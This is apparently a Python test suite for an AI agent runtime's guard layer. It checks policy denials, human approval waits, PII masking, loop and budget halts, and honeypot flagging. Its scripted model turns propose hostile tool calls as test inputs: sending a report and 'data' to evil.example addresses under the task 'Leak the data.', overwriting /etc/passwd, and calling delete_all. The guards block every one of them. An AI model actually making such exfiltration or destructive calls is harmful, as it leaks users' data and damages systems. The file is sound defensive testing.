"""The built-in ReAct strategy (`tether.agents.react`) under the guards, on the real runtime.

Every model call goes through `Guards.model` and every tool call through `Guards.tool`, so a
refusal is an observation the model reads, an approval is a durable wait, PII is masked before
the model and unmasked only inside the tool, loops are intervened on then halted, and budgets
halt the run.
"""

from __future__ import annotations

import re
from typing import Any

from tether.guards import BudgetLimits, inbox
from tether.guards._modelcall import trim_history
from tether.models import Message, ScriptedModel, tool_call

from . import agents_guarded as A
from .e2e_support import (
    APPROVERS,
    STUCK,
    journal,
    make_guards,
    open_tether,
    replay_only,
    say,
    sent_to_model,
)
from .test_e2e_approvals import _decision


def _live_tool_starts(t: Any, run_id: str, tool: str) -> list[Any]:
    return [e for e in journal(t, run_id) if e.kind == "step_started"
            and e.name == f"tool:{tool}" and "short_circuit" not in (e.data or {})]


# ------------------------------------------------------------------------ (a) refusals
async def test_a_denied_call_is_an_observation_and_the_run_goes_on(db_path):
    guards = make_guards(None)
    model = ScriptedModel([
        say("I look the order up and mail the report out.",
            tool_call("search", {"q": "order 42"}, id="c1"),
            tool_call("send_email", {"to": "boss@evil.example", "body": "report"}, id="c2")),
        say("External mail is refused; I mail it internally.",
            tool_call("send_email", {"to": "ops@corp.example", "body": "report"})),
        "The report went to ops.",
    ])
    A.reset(model, guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react_under_run_guards, {"task": "Send the order 42 report."})
    assert run.status == "succeeded", run.error
    assert run.result["answer"] == "The report went to ops."
    step1, step2, _ = run.result["trajectory"]
    search, refused = step1["calls"]
    assert search["ok"] is True and refused["ok"] is False
    assert refused["observation"].startswith("ERROR (policy_denied): denied by policy rule")
    assert step2["calls"][0]["ok"] is True
    # the model read the refusal (as the tool message answering its call)
    assert any(m.role == "tool" and "policy_denied" in (m.content or "")
               for m in model.calls[1].messages)
    assert A.EXECUTED == [("search", {"q": "order 42"}),
                          ("send_email", {"to": "ops@corp.example", "body": "report"})]
    started = [e for e in journal(t, run.id)
               if e.kind == "step_started" and e.name == "tool:send_email"]
    assert [e.data.get("short_circuit", {}).get("guard") for e in started] == ["policy", None]
    # the gateway's verdict reached the interceptor in the step's meta; only its policy decision
    # is journaled
    metas = [e.data["meta"] for e in started]
    assert [m["policy"]["action"] for m in metas] == ["deny", "allow"]
    assert metas[1]["policy"]["via"] == "gateway" and not any("guards.verdict" in m
                                                               for m in metas)
    assert await replay_only(t, guards, run.id, A.react_under_run_guards) == run.result
    t.close()


async def test_explicit_guards_win_over_none_on_the_context(db_path):
    guards = make_guards(None)
    A.reset(ScriptedModel([say("", tool_call("write_file", {"path": "/etc/passwd",
                                                           "content": "x"})), "I cannot."]),
            guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react_explicit_guards, {"task": "Own the box."})
    assert run.status == "succeeded", run.error
    (call,) = run.result["trajectory"][0]["calls"]
    assert call["tool"] == "write_file" and call["ok"] is False
    assert "policy_denied" in call["observation"] and "'default'" in call["observation"]
    assert A.EXECUTED == []
    t.close()


# ------------------------------------------------------------------------ (b) approvals
async def test_approval_is_a_durable_wait_then_the_call_runs_exactly_once(db_path, tmp_path):
    ledger = tmp_path / "side_effects.txt"
    guards = make_guards(None)
    model = ScriptedModel([
        say("First the order.", tool_call("search", {"q": "order 42"})),
        say("Now the refund.", tool_call("refund", {"card": "c-42", "amount": 500})),
        "Refunded order 42.",
    ])
    A.reset(model, guards, ledger=str(ledger))
    t = open_tether(db_path, guards)
    run = await t.run(A.react_agent_bundle, {"task": "Refund order 42."})
    assert run.status == "waiting", run.error  # the run is a row; no worker holds it
    assert ledger.read_text().splitlines() == ["search"] and len(model.calls) == 2
    (pending,) = inbox.list_pending(t.store)
    assert pending.request.tool == "refund"
    t.close()

    t2 = open_tether(db_path, guards)
    req = pending.request
    assert inbox.decide(t2, _decision(req.id, req.digest, "carol"), APPROVERS) == "approved"
    done = await t2.drive(run.id)
    assert done.status == "succeeded", done.error
    assert done.result["answer"] == "Refunded order 42."
    # the refund ran once, after the approval; nothing that ran before ran again
    assert ledger.read_text().splitlines() == ["search", "refund"]
    assert len(model.calls) == 3
    assert len(_live_tool_starts(t2, run.id, "refund")) == 1
    assert len(_live_tool_starts(t2, run.id, "search")) == 1
    assert done.result["trajectory"][1]["calls"][0]["ok"] is True
    assert await replay_only(t2, guards, run.id, A.react_agent_bundle) == done.result
    t2.close()


async def test_denied_approval_is_an_observation(db_path):
    guards = make_guards(None)
    A.reset(ScriptedModel([say("", tool_call("refund", {"card": "c", "amount": 9})),
                           "No refund then."]), guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react_under_run_guards, {"task": "Refund."})
    assert run.status == "waiting"
    req = inbox.list_pending(t.store)[0].request
    assert inbox.decide(t, _decision(req.id, req.digest, "carol", "deny"), APPROVERS) == "denied"
    done = await t.drive(run.id)
    assert done.status == "succeeded", done.error
    assert A.EXECUTED == []
    (call,) = done.result["trajectory"][0]["calls"]
    assert call["ok"] is False and "approval_denied" in call["observation"]
    t.close()


# ------------------------------------------------------------------------------ (c) PII
async def test_pii_from_a_tool_never_reaches_the_model_but_reaches_the_tool(db_path):
    guards = make_guards(None)
    placeholder = re.compile(r"\[EMAIL_\d+\]")

    def script(call: Any) -> Any:
        n = len(model.calls)  # this call included
        if n == 1:
            return say("I look the customer up.", tool_call("crm_lookup", {"customer": "Jane"}))
        if n == 2:
            seen = "\n".join(m.content or "" for m in call.messages if m.role == "tool")
            found = placeholder.search(seen)
            to = found.group(0) if found else "jane.doe@corp.example"
            return say("I mail her.", tool_call("send_email", {"to": to, "body": "Refund sent"}))
        return "Mailed the customer."

    model = ScriptedModel(fn=script)
    A.reset(model, guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react_under_run_guards, {"task": "Tell customer Jane her refund left."})
    assert run.status == "succeeded", run.error
    assert len(model.calls) == 3
    text = sent_to_model(model)
    for secret in ("jane.doe@corp.example", "4111 1111 1111 1111", "555 0134"):
        assert secret not in text
    assert placeholder.search(text)
    # the model addressed a placeholder; the tool got the real address
    assert A.EXECUTED[-1] == ("send_email", {"to": "jane.doe@corp.example",
                                             "body": "Refund sent"})
    assert await replay_only(t, guards, run.id, A.react_under_run_guards) == run.result
    t.close()


# ---------------------------------------------------------------------------- (d) loops
async def test_semantic_loop_is_intervened_then_halted(db_path, embedder):
    guards = make_guards(embedder)
    model = ScriptedModel([say(s, tool_call("search", {"q": f"paris {i}"}))
                           for i, s in enumerate(STUCK)])
    A.reset(model, guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react_under_run_guards, {"task": "Weather in Paris?", "max_steps": 20})
    assert run.status == "halted" and "semantic_loop" in (run.reason or "")
    assert len(model.calls) == 6
    warned = model.calls[5]
    assert "going in circles" in (warned.messages[-1].content or "")
    assert warned.params.get("temperature", 0) > 0
    # the trim keeps the whole prompt (system prompt and goal), then the recent turns
    assert warned.messages[:2] == model.calls[0].messages[:2]
    assert len(warned.messages) < len(model.calls[4].messages)
    assert all("going in circles" not in (m.content or "") for c in model.calls[:5]
               for m in c.messages)
    t.close()


async def test_repeated_call_is_intervened_then_halted(db_path):
    guards = make_guards(None)
    model = ScriptedModel([say("", tool_call("search", {"q": "same"})) for _ in range(8)])
    A.reset(model, guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react_explicit_guards, {"task": "x", "max_steps": 20})
    assert run.status == "halted" and "repeated_call" in (run.reason or "")
    assert "repeating yourself" in (model.calls[3].messages[-1].content or "")
    assert [n for n, _ in A.EXECUTED].count("search") == 4
    t.close()


def test_an_intervention_trim_keeps_a_pinned_prompt_with_its_examples():
    prompt = [Message.system("method"), Message.user("example goal"),
              Message.assistant("example answer"), Message.user("the real goal")]
    turns = [Message.assistant(f"thought {i}") for i in range(6)]
    trimmed = trim_history([*prompt, *turns], keep=2, pinned=len(prompt))
    assert trimmed == [*prompt, *turns[-2:]]
    # unpinned, the first user message is taken for the goal: here the example's
    assert trim_history([*prompt, *turns], keep=2)[:2] == prompt[:2]
    assert trim_history([*prompt, *turns[:1]], keep=2, pinned=len(prompt)) == [*prompt,
                                                                             turns[0]]


# ------------------------------------------------------------------------- (e) honeypot
async def test_honeypot_call_flags_the_run_and_never_runs(db_path):
    guards = make_guards(None)
    A.reset(ScriptedModel([say("Clean everything up.", tool_call("delete_all", {})),
                           "All clean."]), guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react_under_run_guards, {"task": "Tidy up."})
    assert run.status == "succeeded", run.error
    assert A.EXECUTED == []
    (call,) = run.result["trajectory"][0]["calls"]
    assert call["ok"] is True  # the simulated success the model sees
    record = t.get(run.id)
    assert [f["flag"] for f in record.flags] == ["honeypot"]
    assert record.flags[0]["tool"] == "delete_all"
    assert [e for e in journal(t, run.id) if e.kind == "run_flagged"]
    t.close()


# --------------------------------------------------------------------------- (f) budgets
async def test_run_budget_halts_a_model_that_keeps_proposing_refused_calls(db_path):
    guards = make_guards(None, run_limits=BudgetLimits(tool_calls=3))
    counter = iter(range(1000))

    def script(call: Any) -> Any:
        i = next(counter)
        return say(f"Attempt {i}: mail it out.",
                   tool_call("send_email", {"to": f"x{i}@evil.example", "body": "data"}))

    A.reset(ScriptedModel(fn=script), guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react_under_run_guards, {"task": "Leak the data.", "max_steps": 50})
    assert run.status == "halted", run.error
    assert "run budget 'tool_calls' exhausted: limit=3" in (run.reason or "")
    halted = [e for e in journal(t, run.id) if e.kind == "run_halted"]
    assert halted and halted[0].data["details"]["guard"] == "budget"
    assert A.EXECUTED == []
    t.close()

